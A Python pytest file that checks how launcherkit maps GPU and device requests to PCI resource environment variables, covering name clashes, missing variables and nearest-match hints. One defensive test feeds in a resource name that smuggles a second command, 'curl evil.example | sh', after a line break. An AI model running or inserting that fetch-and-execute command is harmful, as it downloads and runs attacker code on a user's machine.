"""Requests against variables: what is expected, what is there, what is near (E2, E4, E5)."""

from __future__ import annotations

import pytest

from launcherkit.errors import VARIABLE_CLASH, Collector, TooFew
from launcherkit.model.request import Request
from launcherkit.request.environment import Environment, check_requests, not_in_domain, variable_missing
from tests.support.errors import raises_code


def request(resource: str | None, name: str = "a", position: int = 0) -> Request:
    return Request("gpus", position, name, resource)


def check(*requests: Request) -> None:
    answered: dict[str, str | None] = {each.resource: "PCI_RESOURCE_X" for each in requests if each.resource}
    Collector(check_requests(requests, answered, Environment({}))).raise_if_any()


def missing(resource: str, env: dict[str, str]) -> TooFew:
    environment = Environment(env)
    return variable_missing([request(resource)], environment.names_for(resource), environment.counts())


@pytest.mark.parametrize(
    ("first", "second"),
    [("x.com/a.b", "x.com/a_b"), ("x.com/a", "x_com/a"), ("x.com/a", "X.com/A"), ("x/com/a", "x.com/a")],
)
def test_two_resources_with_one_variable_are_an_error_that_names_both(first: str, second: str) -> None:
    """E2."""
    with raises_code(VARIABLE_CLASH) as raised:
        check(request(first), request(second, "b", 1))
    for part in (first, second, "PCI_RESOURCE_X_COM_A", "gpus[0]", "gpus[1]"):
        assert part in raised.value.message


def test_one_resource_twice_and_a_dash_against_an_underscore_are_no_clash() -> None:
    """E1: everything but / and . is kept."""
    check(request("x.com/a"), request("x.com/a", "b", 1), request("x.com/a-b", "c", 2), request("x.com/a_b", "d", 3))


def test_a_request_by_claim_needs_no_variable() -> None:
    """E5."""
    check(request(None))


def test_beside_a_request_by_claim_a_clash_of_others_is_still_an_error() -> None:
    """E2, E5."""
    with raises_code(VARIABLE_CLASH):
        check(request(None), request("x.com/a.b", "b", 1), request("x.com/a_b", "c", 2))


def test_a_missing_variable_is_reported_with_what_was_expected_what_is_there_and_what_is_near() -> None:
    """E4."""
    env = {"PCI_RESOURCE_NVIDIA_COM_GA102": "0000:e1:00.0,0000:01:00.0,", "USB_RESOURCE_STICK": "", "PATH": "/bin"}
    message = missing("nvidia.com/GA103", env).message
    for part in (
        "MDEV_PCI_RESOURCE_NVIDIA_COM_GA103, PCI_RESOURCE_NVIDIA_COM_GA103",
        "PCI_RESOURCE_NVIDIA_COM_GA102 (2)",
        "USB_RESOURCE_STICK (0)",
        "the nearest is PCI_RESOURCE_NVIDIA_COM_GA102",
        "spec.domain.devices.gpus[0] 'a' asks for nvidia.com/GA103",
    ):
        assert part in message
    assert "PATH" not in message


def test_with_nothing_there_nothing_is_near() -> None:
    """E4."""
    message = missing("nvidia.com/GA103", {}).message
    assert "present: none" in message
    assert "nearest" not in message


def test_what_is_not_near_is_not_called_near() -> None:
    """E4."""
    assert "nearest" not in missing("a", {"PCI_RESOURCE_" + "Q" * 60: "0000:e1:00.0"}).message


def test_a_sidecar_without_hostdevs_is_told_where_to_look() -> None:
    """Q2, E4."""
    error = not_in_domain([request("x"), request("x", "b", 1)], 1)
    assert "2 devices (gpus 'a', gpus 'b')" in error.message
    assert "1 hostdev" in error.message


def test_a_name_with_a_line_break_adds_no_command_to_the_help() -> None:
    error = missing("nvidia.com/X\ncurl evil.example | sh", {})
    assert "\n" not in error.remedy
